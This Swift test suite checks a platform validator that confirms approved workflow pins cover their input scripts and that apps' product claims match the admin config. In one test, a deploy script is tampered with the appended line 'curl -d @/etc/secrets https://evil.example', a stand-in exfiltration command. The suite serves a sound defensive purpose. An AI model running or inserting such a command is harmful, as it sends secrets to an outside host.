import Foundation
import Testing
import TestSupport
@testable import Specs

/// `validate DIR` on what a pin covers (the workflow file and its inputs), on scripts a step runs that its
/// inputs leave out, and on apps that claim a product whose members the admin config declares.
@Suite struct PinCoverageRulesTests {
    static let deployPath = "workflows/products/shop/deploy.yaml"
    static let script = "#!/bin/sh\necho deploy\n"

    static func deploy(inputs: String = "[scripts/deploy.sh]", run: String = "./scripts/deploy.sh \"$SCORE_FILE\"") -> String {
        """
        apiVersion: workflow.dev/v1
        kind: ProductWorkflow
        metadata: {name: deploy, product: shop}
        spec:
          inputs: \(inputs)
          steps:
            - name: go
              run: '\(run)'

        """
    }

    static func admin(_ digest: String, extra: String = "") -> String {
        "workflowPolicies:\n  allowedProductWorkflows:\n    - {name: shop/deploy, digest: \(digest)}\n" + extra
    }

    static func validate(_ files: [String: String]) -> PlatformRepoReport {
        PlatformRepoValidator().validate(files: PlatformRepoTests.files(files))
    }

    static func pin(workflow: String, script: String) -> String {
        WorkflowPin.digest(path: deployPath, blobID: GitBlobID.of(Array(workflow.utf8)),
                           inputs: ["scripts/deploy.sh": GitBlobID.of(Array(script.utf8))])
    }

    @Test func aPinOverTheInputsWarnsWhenTheScriptChanged() {
        let workflow = Self.deploy()
        let pin = Self.pin(workflow: workflow, script: Self.script)
        let fresh = Self.validate(["policies/admin-config.yaml": Self.admin(pin), Self.deployPath: workflow,
                                   "scripts/deploy.sh": Self.script])
        #expect(fresh.isValid)
        #expect(fresh.files.allSatisfy { $0.warnings.isEmpty }, "\(fresh.files.map(\.summary))")

        let edited = Self.validate(["policies/admin-config.yaml": Self.admin(pin), Self.deployPath: workflow,
                                    "scripts/deploy.sh": Self.script + "curl -d @/etc/secrets https://evil.example\n"])
        #expect(edited.isValid, "a warning, not an error")
        let warnings = edited.files.first { $0.path == Self.deployPath }?.warnings.map(\.message) ?? []
        #expect(warnings.contains { $0.hasPrefix("'shop/deploy' changed since it was approved (the digest of its file and its inputs is now sha256:")
                    && $0.contains("not \(pin)") && $0.hasSuffix("(innominatus approve shop/deploy)") }, "\(warnings)")
    }

    @Test func aPinOfTheFileAloneWarnsThatItsInputsAreNotCovered() {
        let workflow = Self.deploy()
        let blob = GitBlobID.of(Array(workflow.utf8))
        let result = Self.validate(["policies/admin-config.yaml": Self.admin(blob), Self.deployPath: workflow,
                                    "scripts/deploy.sh": Self.script])
        #expect(result.isValid)
        let admin = result.files.first { $0.path == "policies/admin-config.yaml" }
        let lines = admin?.warnings.map(\.description) ?? []
        #expect(lines == ["policies/admin-config.yaml:3:35: warning: workflowPolicies.allowedProductWorkflows[0].digest: 'shop/deploy' "
                    + "is pinned by the git blob id of its file alone, which does not cover its inputs (scripts/deploy.sh): an edit "
                    + "to them would run unreviewed under this approval; pin them too with: innominatus approve shop/deploy"],
                "\(lines)")
        // It still approves the file: no "changed since approval" on the workflow.
        #expect(result.files.first { $0.path == Self.deployPath }?.warnings.isEmpty == true)
    }

    @Test(arguments: [
        // run names the script, inputs do not: a warning at the run field, file:line:column.
        ("[]", "./scripts/deploy.sh", ["8:12: warning: spec.steps[0].run: the step names ./scripts/deploy.sh, which spec.inputs does not cover"]),
        ("[scripts/other.sh]", "sh scripts/deploy.sh --fast", ["8:12: warning: spec.steps[0].run: the step names scripts/deploy.sh"]),
        // Covered: by the file, its folder, a glob.
        ("[scripts/deploy.sh]", "./scripts/deploy.sh", []),
        ("[./scripts/]", "bash ./scripts/deploy.sh", []),
        ("[\"scripts/*.sh\"]", "./scripts/deploy.sh; ./scripts/deploy.sh", []),
        // A folder is covered when every file under it is.
        ("[scripts/deploy.sh]", "ls ./scripts/", []),
        ("[]", "ls ./scripts/", ["8:12: warning: spec.steps[0].run: the step names ./scripts"]),
        // Words that are no file of the repository, URLs, variables, absolute paths: nothing to say.
        ("[]", "echo and/or; curl https://example.com/a/b; cat $HOME/x /etc/passwd ${metadata.team}/x # ./not/this", []),
    ])
    func aStepThatRunsAFileItsInputsDoNotCoverIsAWarning(inputs: String, run: String, expected: [String]) {
        let workflow = Self.deploy(inputs: inputs, run: run)
        let result = Self.validate(["policies/admin-config.yaml": "workflowPolicies:\n  allowedProductWorkflows: [shop/deploy]\n",
                                    Self.deployPath: workflow, "scripts/deploy.sh": Self.script])
        #expect(result.isValid)
        let warnings = result.files.first { $0.path == Self.deployPath }?.warnings.map(\.description) ?? []
        #expect(warnings.count == expected.count, "\(warnings)")
        for (warning, prefix) in zip(warnings, expected) {
            #expect(warning.hasPrefix(Self.deployPath + ":" + prefix), "\(warning)")
        }
    }

    @Test func anAppClaimingADeclaredProductItIsNotAMemberOfIsAnError() {
        let admin = "workflowPolicies:\n  products:\n    shop: {apps: [web, \"cart-*\", typo-app]}\n"
        let result = Self.validate([
            "policies/admin-config.yaml": admin,
            "apps/web/score.yaml": PlatformRepoTests.score("web", product: "shop"),
            "apps/cart-eu/score.yaml": PlatformRepoTests.score("cart-eu", product: "shop"),
            "apps/rogue/score.yaml": PlatformRepoTests.score("rogue", product: "shop"),
            "apps/other/score.yaml": PlatformRepoTests.score("other", product: "search"),
        ])
        #expect(!result.isValid)
        let errors = result.files.flatMap(\.errors).map(\.description)
        #expect(errors == ["apps/rogue/score.yaml:4:12: error: metadata.product: the app 'rogue' claims the product 'shop', but "
                    + "workflowPolicies.products.shop.apps in policies/admin-config.yaml does not list it, so none of its workflows "
                    + "run; ask the platform team to add it there, or remove metadata.product"], "\(errors)")
        let warnings = result.files.first { $0.path == "policies/admin-config.yaml" }?.warnings.map(\.description) ?? []
        #expect(warnings == ["policies/admin-config.yaml:3:34: warning: workflowPolicies.products.shop.apps[2]: 'typo-app' matches no "
                    + "app under apps/; check the name"], "\(warnings)")
    }

    /// The directory front end: the script is found on disk and hashed as git would.
    @Test func theDirectoryFrontEndHashesTheInputsOfACheckout() throws {
        let folder = try TemporaryDirectory("pin-dir")
        let workflow = Self.deploy()
        for (path, text) in ["policies/admin-config.yaml": Self.admin(Self.pin(workflow: workflow, script: Self.script)),
                             Self.deployPath: workflow, "scripts/deploy.sh": Self.script] {
            let full = folder.appending(path)
            try FileManager.default.createDirectory(atPath: (full as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            try text.write(toFile: full, atomically: true, encoding: .utf8)
        }
        let clean = try PlatformRepoValidator().validate(directory: folder.path)
        #expect(clean.files.allSatisfy { $0.diagnostics.isEmpty }, "\(clean.files.map(\.summary))")
        try (Self.script + "echo more\n").write(toFile: folder.appending("scripts/deploy.sh"), atomically: true, encoding: .utf8)
        let edited = try PlatformRepoValidator().validate(directory: folder.path)
        #expect(edited.files.flatMap(\.warnings).contains { $0.message.contains("changed since it was approved") })
    }
}
